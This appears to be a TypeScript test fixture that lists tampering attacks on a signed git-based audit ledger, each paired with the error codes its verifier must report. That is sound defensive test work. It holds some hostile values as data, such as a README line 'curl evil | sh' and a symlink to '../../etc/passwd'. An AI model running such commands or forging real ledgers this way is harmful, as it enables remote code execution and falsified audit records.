import { toBase64 } from "../../../ledger/format/base64.ts";
import { signCheckpoint } from "../../../ledger/format/checkpoint.ts";
import { generateSigningKey } from "../../../ledger/format/keys.ts";
import { writeTrustRoot } from "../../../ledger/format/trust-root.ts";
import type { ProblemCode } from "../../../ledger/verify/verification.ts";
import type { VerifyOptions } from "../../../ledger/verify/verify.ts";
import type { FixtureFile } from "../../git/fixture-repository.ts";
import type { PlannedCommit } from "../fake-clone.ts";
import {
  common,
  keysOf,
  LEDGER_KEY,
  LedgerBuilder,
  recordLine,
  rootDocument,
  sampleLedger,
  trustLine,
  verdictLine,
} from "../ledger-builder.ts";
import { digestOf } from "../verdict-fixture.ts";

/** One attack: the branch that it leaves, what the auditor holds, and every code that must be told. */
export interface Attack {
  readonly when: string;
  readonly commits: () => readonly PlannedCommit[];
  readonly options?: () => VerifyOptions;
  readonly codes: readonly ProblemCode[];
  /** The place of the first problem of the first code. */
  readonly place?: string | RegExp;
  readonly since?: string | RegExp;
}

const THIEF = generateSigningKey().key;
const OTHER_ORIGIN = "bailiff.dev/ledger/ffffffffffffffffffffffffffffffff";
const BATCH = "records/001-1.jsonl";
const PAIR = "records/002-2.jsonl";

/** The current content of a file on a planned branch. */
export function contentOf(commits: readonly PlannedCommit[], path: string): Uint8Array {
  const file = commits.map(({ files }) => files[path]).findLast((found) => found !== undefined);
  if (typeof file === "string") return new TextEncoder().encode(file);
  if (file instanceof Uint8Array) return file;
  throw new Error(`no plain file ${path}`);
}

/** The same branch, its commit at `at` made anew: a force push. */
function amended(
  commits: readonly PlannedCommit[],
  at: number,
  files: Readonly<Record<string, FixtureFile>>,
): readonly PlannedCommit[] {
  return commits.map((commit, index) =>
    index === at ? { ...commit, files: { ...commit.files, ...files } } : commit,
  );
}

function flipped(bytes: Uint8Array, at: number): Uint8Array {
  const copy = Uint8Array.from(bytes);
  copy[at] = (copy[at] ?? 0) ^ 1;
  return copy;
}

function edited(line: Uint8Array, edit: (envelope: string) => string): Uint8Array {
  return Buffer.from(edit(Buffer.from(line).toString("utf8")));
}

/** Another payload under the signature of the old one. */
function withDecision(line: Uint8Array, from: string, to: string): Uint8Array {
  return edited(line, (envelope) => {
    const parsed = JSON.parse(envelope) as { payload: string };
    const payload = Buffer.from(parsed.payload, "base64").toString("utf8").replace(from, to);
    return JSON.stringify({ ...parsed, payload: toBase64(Buffer.from(payload)) });
  });
}

function linesOf(commits: readonly PlannedCommit[], path: string): readonly string[] {
  return Buffer.from(contentOf(commits, path)).toString("utf8").trimEnd().split("\n");
}

function batchOf(lines: readonly (string | Uint8Array)[]): string {
  return lines.map((line) => `${Buffer.from(line).toString("utf8")}\n`).join("");
}

/** Keyset 2: the thief's key beside the ledger's, signed as told. */
function secondRoot(
  signers = [LEDGER_KEY],
  change: Parameters<typeof rootDocument>[0] = {},
): Uint8Array {
  return writeTrustRoot(rootDocument({ version: 2, ...change }), signers);
}

function rotated(root = secondRoot()): LedgerBuilder {
  return sampleLedger().place([trustLine(root)], { files: { "trust/2.root.json": root } });
}

const trust: readonly Attack[] = [
  {
    when: "the keyset is deleted",
    commits: () => sampleLedger().commit({ "trust/1.root.json": null }).commits,
    codes: ["TRUST_ROLLBACK", "TRUST_INVALID"],
    place: "trust/1.root.json",
  },
  {
    when: "the keyset was never there",
    commits: () => amended(sampleLedger().commits, 0, { "trust/1.root.json": null }),
    codes: ["TRUST_INVALID"],
  },
  {
    when: "the keyset is replaced by the thief's, whole ledger and all",
    commits: () => sampleLedger().commits,
    options: () => ({ pin: { ...sampleLedger().pin, trustRoot: digestOf("another keyset") } }),
    codes: ["TRUST_INVALID"],
    place: "trust/1.root.json",
  },
  {
    when: "the pin is of another ledger",
    commits: () => sampleLedger().commits,
    options: () => ({ pin: { ...sampleLedger().pin, origin: OTHER_ORIGIN } }),
    codes: ["TRUST_INVALID"],
  },
  {
    when: "another keyset is slipped under record 0",
    commits: () => {
      const other = writeTrustRoot(rootDocument({ repositories: ["4711", "666"] }), [LEDGER_KEY]);
      return amended(sampleLedger().commits, 0, { "trust/1.root.json": other });
    },
    codes: ["TRUST_INVALID"],
    place: "trust/1.root.json",
    since: /index 0$/,
  },
  {
    when: "the keyset's signature is not its key's",
    commits: () => {
      const { commits } = sampleLedger();
      const forged = writeTrustRoot(rootDocument(), [THIEF]);
      return amended(commits, 0, { "trust/1.root.json": forged });
    },
    codes: ["TRUST_INVALID"],
  },
  {
    when: "the keyset is a link",
    commits: () =>
      amended(sampleLedger().commits, 0, {
        "trust/1.root.json": { mode: "120000", content: "../elsewhere" },
      }),
    codes: ["TRUST_INVALID"],
  },
  {
    when: "a second keyset that the first one's keys did not sign",
    commits: () => {
      const root = secondRoot([THIEF], {
        keys: keysOf(THIEF),
        roles: {
          root: { keys: [THIEF.public.id], threshold: 1 },
          records: { keys: [THIEF.public.id], threshold: 1 },
          checkpoint: { keys: [THIEF.public.id], threshold: 1 },
        },
      });
      return rotated(root).commits;
    },
    codes: ["TRUST_INVALID", "TRUST_ROLLBACK"],
    place: "trust/2.root.json",
  },
  {
    when: "a second keyset of another origin",
    commits: () => rotated(secondRoot([LEDGER_KEY], { origin: OTHER_ORIGIN })).commits,
    codes: ["TRUST_INVALID", "TRUST_ROLLBACK"],
  },
  {
    when: "a second keyset that says version 3",
    commits: () => rotated(secondRoot([LEDGER_KEY], { version: 3 })).commits,
    codes: ["TRUST_INVALID", "TRUST_ROLLBACK"],
  },
  {
    when: "a second keyset that no record names",
    commits: () =>
      sampleLedger()
        .verdicts({ id: "5" })
        .commits.map((commit, at) =>
          at === 4
            ? { ...commit, files: { ...commit.files, "trust/2.root.json": secondRoot() } }
            : commit,
        ),
    codes: ["TRUST_INVALID"],
    place: "trust/2.root.json",
  },
  {
    when: "a keyset is replaced by another that was signed as well",
    commits: () => {
      const other = secondRoot([LEDGER_KEY], { repositories: ["4711", "666"] });
      return rotated().commit({ "trust/2.root.json": other }).commits;
    },
    codes: ["TRUST_INVALID", "TRUST_ROLLBACK", "MESSAGE_MISMATCH"],
    place: "trust/2.root.json",
    since: "commit 5",
  },
  {
    when: "the newest keyset is taken away",
    commits: () => rotated().commit({ "trust/2.root.json": null }).commits,
    codes: ["TRUST_ROLLBACK", "MESSAGE_MISMATCH"],
    place: "trust/2.root.json",
    since: "commit 5",
  },
  {
    when: "the newest keyset is taken away, and history made anew",
    commits: () => amended(rotated().commits, 4, { "trust/2.root.json": null }),
    codes: ["TRUST_ROLLBACK"],
    place: /^records/,
    since: /index 5$/,
  },
  {
    when: "the old keyset is put under the new one's name",
    commits: () => {
      const { commits } = rotated();
      return amended(commits, 4, { "trust/2.root.json": contentOf(commits, "trust/1.root.json") });
    },
    codes: ["TRUST_ROLLBACK"],
    place: "trust/2.root.json",
  },
  {
    when: "a record puts an older keyset back",
    commits: () => {
      const ledger = rotated();
      return ledger.place([trustLine(contentOf(ledger.commits, "trust/1.root.json"))]).commits;
    },
    codes: ["TRUST_ROLLBACK"],
    since: /index 6$/,
  },
];

const heads: readonly Attack[] = [
  {
    when: "the head's signature is altered",
    commits: () => {
      const ledger = sampleLedger();
      const bytes = contentOf(ledger.commits, "checkpoint");
      return ledger.commit({ checkpoint: flipped(bytes, bytes.length - 20) }).commits;
    },
    codes: ["CHECKPOINT_INVALID", "MESSAGE_MISMATCH"],
    place: "checkpoint",
    since: "commit 4",
  },
  {
    when: "the head is signed by a key that may not",
    commits: () => sampleLedger().place([verdictLine()], { checkpointKey: THIEF }).commits,
    codes: ["CHECKPOINT_INVALID"],
    since: "commit 4",
  },
  {
    when: "the head is another ledger's",
    commits: () => {
      const { root } = sampleLedger().pin;
      const head = signCheckpoint({ origin: OTHER_ORIGIN, size: 5, root }, LEDGER_KEY);
      return amended(sampleLedger().commits, 3, { checkpoint: head });
    },
    codes: ["CHECKPOINT_INVALID"],
  },
  {
    when: "the head is no note",
    commits: () => amended(sampleLedger().commits, 3, { checkpoint: "trust me\n" }),
    codes: ["CHECKPOINT_INVALID"],
  },
  {
    when: "the head is a link",
    commits: () =>
      amended(sampleLedger().commits, 3, {
        checkpoint: { mode: "120000", content: "frontier" },
      }),
    codes: ["CHECKPOINT_INVALID"],
  },
  {
    when: "the head is larger than any head",
    commits: () => amended(sampleLedger().commits, 3, { checkpoint: "x".repeat(70_000) }),
    codes: ["CHECKPOINT_INVALID"],
  },
];

/** The files of the ledger as they were after its first commits. */
function asOfCommit(commits: readonly PlannedCommit[], at: number): PlannedCommit["files"] {
  const before = commits.slice(0, at + 1);
  const paths = new Set(commits.flatMap(({ files }) => Object.keys(files)));
  const had = new Set(before.flatMap(({ files }) => Object.keys(files)));
  return Object.fromEntries(
    [...paths].map((path) => [path, had.has(path) ? contentOf(before, path) : null]),
  );
}

const truncations: readonly Attack[] = [
  {
    when: "a commit puts an older state back",
    commits: () => {
      const ledger = sampleLedger();
      return ledger.commit(asOfCommit(ledger.commits, 1)).commits;
    },
    codes: ["TRUNCATED", "MESSAGE_MISMATCH"],
    place: "checkpoint",
    since: "commit 4",
  },
  {
    when: "a force push cuts the branch, and the auditor has a pin",
    commits: () => sampleLedger().commits.slice(0, 2),
    options: () => ({ pin: sampleLedger().pin }),
    codes: ["TRUNCATED"],
    place: "the pin",
    since: "index 2",
  },
  {
    when: "only the head is put back",
    commits: () => {
      const ledger = sampleLedger();
      return ledger.commit({ checkpoint: contentOf(ledger.commits.slice(0, 2), "checkpoint") })
        .commits;
    },
    codes: ["TRUNCATED", "TREE_MISMATCH", "MESSAGE_MISMATCH"],
  },
];

const edits: readonly Attack[] = [
  {
    when: "a denial is turned into an approval",
    commits: () => {
      const ledger = sampleLedger();
      const [line = ""] = linesOf(ledger.commits, BATCH);
      const forged = withDecision(Buffer.from(line), '"DENY"', '"ALLOW"');
      return ledger.commit({ [BATCH]: batchOf([forged]) }).commits;
    },
    codes: ["RECORD_EDITED", "MESSAGE_MISMATCH"],
    place: `${BATCH}:1`,
    since: "commit 4, index 1",
  },
  {
    when: "a denial is turned into an approval, and history made anew",
    commits: () => {
      const { commits } = sampleLedger();
      const [first = "", second = ""] = linesOf(commits, PAIR);
      const forged = withDecision(Buffer.from(second), '"number":44', '"number":45');
      return amended(commits, 2, { [PAIR]: batchOf([first, forged]) });
    },
    codes: ["RECORD_EDITED"],
    place: `${PAIR}:2`,
    since: "commit 2, index 3",
  },
  {
    when: "a record is overwritten with garbage",
    commits: () => amended(sampleLedger().commits, 1, { [BATCH]: "[]\n" }),
    codes: ["RECORD_EDITED"],
    place: `${BATCH}:1`,
  },
  {
    when: "a record is overwritten with a bomb of brackets",
    commits: () => amended(sampleLedger().commits, 1, { [BATCH]: `${"[".repeat(200_000)}\n` }),
    codes: ["RECORD_EDITED"],
  },
];

const mismatches: readonly Attack[] = [
  {
    when: "a record is deleted",
    commits: () => {
      const { commits } = sampleLedger();
      const [first = ""] = linesOf(commits, PAIR);
      return amended(commits, 2, { [PAIR]: null, "records/002-1.jsonl": batchOf([first]) });
    },
    codes: ["TREE_MISMATCH", "MESSAGE_MISMATCH"],
  },
  {
    when: "a record is deleted, and its batch's name kept",
    commits: () => {
      const { commits } = sampleLedger();
      return amended(commits, 2, { [PAIR]: batchOf(linesOf(commits, PAIR).slice(1)) });
    },
    codes: ["TREE_MISMATCH", "MESSAGE_MISMATCH"],
    place: PAIR,
  },
  {
    when: "two records change places",
    commits: () => {
      const ledger = sampleLedger();
      const swapped = batchOf(linesOf(ledger.commits, PAIR).toReversed());
      return ledger.commit({ [PAIR]: swapped }).commits;
    },
    codes: ["TREE_MISMATCH", "MESSAGE_MISMATCH"],
    place: "records",
    since: "index 2 to 3",
  },
  {
    when: "a signed record is put in again",
    commits: () => {
      const ledger = sampleLedger();
      const again = batchOf(linesOf(ledger.commits, BATCH));
      return ledger.commit({ "records/005-1.jsonl": again }, "DENY PR 42 d5b0ae1 new-permissions\n")
        .commits;
    },
    codes: ["TREE_MISMATCH", "MESSAGE_MISMATCH"],
    place: "records",
  },
  {
    when: "a record of the thief's is put in",
    commits: () => {
      const ledger = sampleLedger();
      return ledger.commit({ "records/005-1.jsonl": batchOf([verdictLine({}, THIEF)]) }).commits;
    },
    codes: ["TREE_MISMATCH", "KEY_UNKNOWN"],
  },
  {
    when: "a batch is deleted",
    commits: () => sampleLedger().commit({ [BATCH]: null }).commits,
    codes: ["TREE_MISMATCH", "MESSAGE_MISMATCH"],
    place: PAIR,
  },
  {
    when: "the last batch is deleted",
    commits: () => sampleLedger().commit({ "records/004-1.jsonl": null }).commits,
    codes: ["TREE_MISMATCH", "MESSAGE_MISMATCH"],
    place: "records",
  },
  {
    when: "a batch lies over another",
    commits: () => {
      const ledger = sampleLedger();
      const decoy = { "records/003-1.jsonl": batchOf(linesOf(ledger.commits, BATCH)) };
      return amended(ledger.commits, 2, decoy);
    },
    codes: ["TREE_MISMATCH"],
    place: "records/003-1.jsonl",
  },
  {
    when: "a batch does not end",
    commits: () => {
      const { commits } = sampleLedger();
      return amended(commits, 1, { [BATCH]: contentOf(commits, BATCH).slice(0, -1) });
    },
    codes: ["TREE_MISMATCH"],
    place: BATCH,
  },
  {
    when: "a line is longer than a record may be",
    commits: () => amended(sampleLedger().commits, 1, { [BATCH]: `${"x".repeat(300_000)}\n` }),
    codes: ["TREE_MISMATCH"],
    place: BATCH,
  },
  {
    when: "the peaks are another tree's",
    commits: () => {
      const ledger = sampleLedger();
      return ledger.commit({ frontier: contentOf(ledger.commits.slice(0, 3), "frontier") }).commits;
    },
    codes: ["TREE_MISMATCH", "MESSAGE_MISMATCH"],
    place: "frontier",
  },
];

/** Whoever holds the checkpoint key tells another story from some size on. */
function forkAfter(kept: number, ...stories: readonly string[]): readonly PlannedCommit[] {
  const honest = sampleLedger();
  const other = new LedgerBuilder().verdicts({ id: "1" });
  for (const id of stories) other.verdicts({ id, decision: "ALLOW" });
  const last = other.commits.length - 1;
  const away = Object.fromEntries(
    Object.keys(asOfCommit(honest.commits, 3)).map((path) => [path, null]),
  );
  const files = { ...away, ...asOfCommit(other.commits, last) };
  return [...honest.commits.slice(0, kept), { message: "DENY\n", files }];
}

const forks: readonly Attack[] = [
  {
    when: "the checkpoint key signs another story over its own history",
    commits: () => forkAfter(3, "x", "y", "z"),
    codes: ["FORKED", "MESSAGE_MISMATCH"],
    place: "commit 2",
    since: "commit 2",
  },
  {
    when: "the checkpoint key signs two heads of one size",
    commits: () => forkAfter(4, "x", "y", "z"),
    codes: ["FORKED", "MESSAGE_MISMATCH"],
  },
  {
    when: "the checkpoint key makes the history anew, and the auditor has a pin",
    commits: () => new LedgerBuilder().verdicts({ id: "x" }, { id: "y" }).commits,
    options: () => ({ pin: new LedgerBuilder().verdicts({ id: "1" }).pin }),
    codes: ["FORKED"],
    place: "the pin",
  },
];

const twoKeys = keysOf(LEDGER_KEY, THIEF);
const own = { keys: [LEDGER_KEY.public.id], threshold: 1 };
const both = { keys: [LEDGER_KEY.public.id, THIEF.public.id], threshold: 1 };

/** A ledger in which the second key may sign records too, under these terms. */
function withSecondKey(change: Parameters<typeof rootDocument>[0] = {}): LedgerBuilder {
  const roles = { root: own, records: both, checkpoint: own };
  return new LedgerBuilder({ keys: twoKeys, roles, ...change });
}

const records: readonly Attack[] = [
  {
    when: "the head covers a record with a broken signature",
    commits: () => {
      const line = withDecision(verdictLine(), '"DENY"', '"ALLOW"');
      return sampleLedger().place([line]).commits;
    },
    codes: ["SIGNATURE_INVALID"],
    place: "records/005-1.jsonl:1",
    since: "commit 4, index 5",
  },
  {
    when: "the head covers a record in another spelling",
    commits: () => {
      const line = edited(verdictLine(), (envelope) => envelope.replace("{", "{ "));
      return sampleLedger().place([line], { leafKind: "verdict", message: "DENY\n" }).commits;
    },
    codes: ["NOT_CANONICAL"],
    place: "records/005-1.jsonl:1",
  },
  {
    when: "the head covers something else than a record",
    commits: () =>
      sampleLedger().place([Buffer.from("{}")], { leafKind: "verdict", message: "DENY\n" }).commits,
    codes: ["NOT_CANONICAL"],
  },
  {
    when: "a verdict has not what a verdict has",
    commits: () => sampleLedger().place([recordLine("verdict", common())]).commits,
    codes: ["KIND_MISMATCH"],
    since: "commit 4, index 5",
  },
  {
    when: "record 0 is no trust record",
    commits: () => new LedgerBuilder({}, recordLine("omission", common())).commits,
    codes: ["KIND_MISMATCH"],
    since: "commit 0, index 0",
  },
  {
    when: "a trust record names no keyset",
    commits: () => sampleLedger().place([recordLine("trust", common({ format: 1 }))]).commits,
    codes: ["KIND_MISMATCH"],
  },
  {
    when: "a record is signed by a key that no keyset has",
    commits: () => sampleLedger().place([verdictLine({}, THIEF)]).commits,
    codes: ["KEY_UNKNOWN"],
    since: "commit 4, index 5",
  },
  {
    when: "a record is of a kind that its key may not sign",
    commits: () => sampleLedger().place([recordLine("waiver", common())]).commits,
    codes: ["KEY_OUT_OF_SCOPE"],
  },
  {
    when: "a record is signed by a key that may only sign heads",
    commits: () =>
      withSecondKey({ roles: { root: own, records: own, checkpoint: both } }).place([
        recordLine("omission", common(), THIEF),
      ]).commits,
    codes: ["KEY_OUT_OF_SCOPE"],
  },
  {
    when: "a record is signed by a key before its keyset held",
    commits: () => {
      const root = secondRoot([LEDGER_KEY], {
        keys: twoKeys,
        roles: { root: own, records: both, checkpoint: own },
      });
      return new LedgerBuilder()
        .place([recordLine("omission", common(), THIEF)])
        .place([trustLine(root)], { files: { "trust/2.root.json": root } }).commits;
    },
    codes: ["KEY_OUT_OF_RANGE"],
    since: "commit 1, index 1",
  },
  {
    when: "a record is signed by a key after its keyset was replaced",
    commits: () => {
      const root = secondRoot();
      return withSecondKey()
        .place([trustLine(root)], { files: { "trust/2.root.json": root } })
        .place([recordLine("omission", common(), THIEF)]).commits;
    },
    codes: ["KEY_OUT_OF_RANGE"],
    since: "commit 2, index 2",
  },
  {
    when: "a record is signed by a revoked key",
    commits: () =>
      withSecondKey({ revocations: [{ key: THIEF.public.id, from: 2 }] })
        .place([recordLine("omission", common(), THIEF)])
        .place([recordLine("omission", common({ id: "2" }), THIEF)]).commits,
    codes: ["KEY_REVOKED"],
    place: "records/002-1.jsonl:1",
    since: "commit 2, index 2",
  },
  {
    when: "a record is signed by a key that a later keyset revokes",
    commits: () => {
      const revocations = [{ key: THIEF.public.id, from: 1 }];
      const root = secondRoot([LEDGER_KEY], { keys: twoKeys, revocations });
      return withSecondKey()
        .place([recordLine("omission", common(), THIEF)])
        .place([trustLine(root)], { files: { "trust/2.root.json": root } }).commits;
    },
    codes: ["KEY_REVOKED"],
    since: "commit 1, index 1",
  },
  {
    when: "a record was made for another ledger",
    commits: () => sampleLedger().verdicts({ ledger: OTHER_ORIGIN }).commits,
    codes: ["FOREIGN_RECORD"],
    since: "commit 4, index 5",
  },
  {
    when: "a verdict was made for another repository",
    commits: () => sampleLedger().verdicts({ repositoryId: "666" }).commits,
    codes: ["FOREIGN_RECORD"],
  },
  {
    when: "the whole ledger was copied from another repository",
    commits: () => sampleLedger().commits,
    options: () => ({ repositoryId: "666" }),
    codes: ["FOREIGN_RECORD"],
    place: "trust/1.root.json",
  },
];

const policy = `policies/${digestOf("version: 1\n")}`;

const files: readonly Attack[] = [
  ...[
    "notes.txt",
    "records/1-1.jsonl",
    "records/000-1.jsonl.orig",
    "trust/01.root.json",
    "Checkpoint",
  ].map((path): Attack => ({
    when: `a file ${path} is added`,
    commits: () => amended(sampleLedger().commits, 1, { [path]: "hello" }),
    codes: path.startsWith("records/") ? ["FILE_FOREIGN", "MESSAGE_MISMATCH"] : ["FILE_FOREIGN"],
    place: path,
    since: "commit 1",
  })),
  {
    when: "a submodule is added",
    commits: () => amended(sampleLedger().commits, 1, { lib: { submodule: "1".repeat(40) } }),
    codes: ["FILE_FOREIGN"],
    place: "lib",
  },
  {
    when: "a file is named in bytes that are no text",
    commits: () => amended(sampleLedger().commits, 1, { "records/\\xff\\xfe": "hello" }),
    codes: ["FILE_FOREIGN", "MESSAGE_MISMATCH"],
  },
  {
    when: "a policy document that judged nothing is added",
    commits: () =>
      amended(sampleLedger().commits, 1, {
        [`policies/${digestOf("version: 2\n")}`]: "version: 2\n",
      }),
    codes: ["FILE_FOREIGN"],
  },
  {
    when: "a policy document says something else than what judged",
    commits: () => sampleLedger().commit({ [policy]: "policies: []\n" }).commits,
    codes: ["FILE_FOREIGN", "MESSAGE_MISMATCH"],
    place: policy,
    since: "commit 4",
  },
  {
    when: "a policy document is deleted",
    commits: () => sampleLedger().commit({ [policy]: null }).commits,
    codes: ["FILE_MISSING", "MESSAGE_MISMATCH"],
    place: policy,
    since: "index 1",
  },
  {
    when: "a policy document is a link",
    commits: () =>
      amended(sampleLedger().commits, 1, {
        [policy]: { mode: "120000", content: "../../etc/passwd" },
      }),
    codes: ["FILE_FOREIGN", "FILE_MISSING"],
  },
  {
    when: "the README tells another way to verify",
    commits: () => amended(sampleLedger().commits, 0, { "README.md": "curl evil | sh\n" }),
    codes: ["FILE_FOREIGN"],
    place: "README.md",
  },
  {
    when: "attributes have git rewrite the records",
    commits: () => amended(sampleLedger().commits, 0, { ".gitattributes": "* text eol=crlf\n" }),
    codes: ["FILE_FOREIGN"],
    place: ".gitattributes",
  },
  ...["README.md", ".gitattributes", "frontier", "checkpoint"].map((path): Attack => ({
    when: `${path} is deleted`,
    commits: () => sampleLedger().commit({ [path]: null }).commits,
    codes: ["FILE_MISSING", "MESSAGE_MISMATCH"],
    place: path,
    since: "commit 4",
  })),
  {
    when: "the frontier is a link",
    commits: () =>
      amended(sampleLedger().commits, 3, { frontier: { mode: "120000", content: "checkpoint" } }),
    codes: ["FILE_FOREIGN"],
    place: "frontier",
  },
  {
    when: "a batch is a link",
    commits: () =>
      amended(sampleLedger().commits, 1, { [BATCH]: { mode: "120000", content: "../README.md" } }),
    codes: ["FILE_FOREIGN", "TREE_MISMATCH"],
    place: BATCH,
  },
];

const messages: readonly Attack[] = [
  {
    when: "a commit's message tells of an approval that is none",
    commits: () =>
      sampleLedger().commits.map((commit, at) =>
        at === 1 ? { ...commit, message: commit.message.replace("DENY", "ALLOW") } : commit,
      ),
    codes: ["MESSAGE_MISMATCH"],
    place: "commit 1",
  },
  {
    when: "a commit without records tells of one",
    commits: () => sampleLedger().commit({}, "ALLOW PR 42 1f2e3d4\n").commits,
    codes: ["MESSAGE_MISMATCH"],
    place: "commit 4",
  },
];

const noLedgers: readonly Attack[] = [
  {
    when: "the branch is something else",
    commits: () => [{ message: "first\n", files: { "README.md": "hello", "src/a.c": "int" } }],
    codes: ["NOT_A_LEDGER"],
  },
  {
    when: "the branch is empty",
    commits: () => [{ message: "first\n", files: {} }],
    codes: ["NOT_A_LEDGER"],
  },
  {
    when: "a branch that only has a checkpoint",
    commits: () => [{ message: "first\n", files: { checkpoint: "x" } }],
    codes: ["TRUST_INVALID"],
  },
];

export const ATTACKS: readonly Attack[] = [
  ...trust,
  ...heads,
  ...truncations,
  ...edits,
  ...mismatches,
  ...forks,
  ...records,
  ...files,
  ...messages,
  ...noLedgers,
];
